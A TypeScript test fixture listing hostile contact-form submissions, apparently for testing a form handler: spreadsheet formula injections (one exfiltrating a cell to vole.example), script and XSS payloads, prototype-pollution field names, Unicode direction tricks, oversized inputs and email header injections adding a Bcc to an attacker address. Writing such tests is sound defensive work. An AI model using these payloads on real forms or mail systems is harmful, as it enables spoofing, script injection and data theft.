/** What hostile visitors send through a form: each to break out of the inbox, out of a spreadsheet, or out of the mail that answers. */

type Sent = readonly (readonly [name: string, value: string])[];

const text = (value: string): Sent => [['message', value]];
const from = (address: string): Sent => [
  ['email', address],
  ['message', 'Bonjour'],
];

export const HOSTILE_REQUESTS: readonly Sent[] = [
  // Names of fields.
  [['__proto__', 'a']],
  [['constructor', 'a']],
  [
    ['toString', 'a'],
    ['hasOwnProperty', 'b'],
  ],
  [["=cmd|'/C calc'!A1", 'a']],
  [['<img src=x onerror=pris=1>', 'a']],
  [
    ['2', 'deux'],
    ['1', 'un'],
  ],
  [
    ['"', 'a'],
    ['\n;=1+1', 'b'],
  ],
  [
    ['Page', '/ailleurs'],
    ['Classement', 'Archivée'],
    ['Autres champs', '-1'],
  ],
  [
    ['email', 'lea@exemple.fr'],
    ['bcc', 'mallory@vole.example'],
    ['subject', 'Facture'],
  ],
  // Formulas.
  text('=HYPERLINK("https://vole.example/?"&A1;"Cliquez")'),
  text('+33 6 12 34 56 78'),
  text("-2+3+cmd|'/C calc'!D2"),
  text("@SUM(1+9)*cmd|'/C calc'!A0"),
  text('\t=1+1'),
  text('\r=1+1'),
  text('\n=1+1'),
  text(' =1+1'),
  text('\u200b=1+1'),
  text('\uff1d1+1'),
  text('a";=1+1;"'),
  text('bonjour\n=1+1\r\n@x'),
  text('"=1+1'),
  text('%0A=1+1'),
  text('sep=,'),
  // Elements and scripts.
  text('<img src=x onerror=pris=1>'),
  text('</script><script>pris=1</script>'),
  text('</textarea><svg onload=pris=1>'),
  text('javascript:pris=1'),
  text('https://vole.example/clic'),
  text('[lien](javascript:pris=1)'),
  text('{{ site.nom }}{% raw %}'),
  // Directions, and what is not seen.
  text('\u202egnp.exe\u202c'),
  text('\u2067\u2066אב'),
  text('\u200b\u200d\ufeff'),
  [['\u202eliame', 'lea@exemple.fr']],
  text('a\u2028b\u2029c'),
  text('e\u0301'.repeat(400)),
  text('mot'.repeat(3_000)),
  text('\n'.repeat(5_000)),
  text('👩‍👩‍👧'.repeat(500)),
  // Addresses that would name a second receiver, or begin a header.
  from('lea@exemple.fr?bcc=mallory@vole.example'),
  from('lea@exemple.fr%0ABcc:mallory@vole.example'),
  from('lea@exemple.fr\nBcc: mallory@vole.example'),
  from('lea@exemple.fr,mallory@vole.example'),
  from('lea@exemple.fr;mallory@vole.example'),
  from('"lea@exemple.fr" <mallory@vole.example>'),
  from('lea+a&cc=mallory@vole.example'),
  from('mailto:lea@exemple.fr'),
  from('lea@exemple.fr\u202e'),
  from("o'neil+a@exemple.fr"),
  [
    ['email', 'lea@exemple.fr'],
    ['message', '&bcc=mallory@vole.example'],
  ],
  [
    ['email', 'lea@exemple.fr'],
    ['message', '%26bcc=mallory@vole.example%0d%0aBcc: x'],
  ],
  [
    ['email', 'lea@exemple.fr'],
    ['message', '\r\n.\r\nBcc: mallory@vole.example'],
  ],
  [
    ['email', 'lea@exemple.fr'],
    ['message', 'é'.repeat(9_000)],
  ],
  [
    ['email', 'lea@exemple.fr'],
    ['message', '\ud83d\ude00'.repeat(4_000)],
  ],
  [
    ['email', 'lea@exemple.fr'],
    ['message&bcc=mallory@vole.example', 'x'],
  ],
];
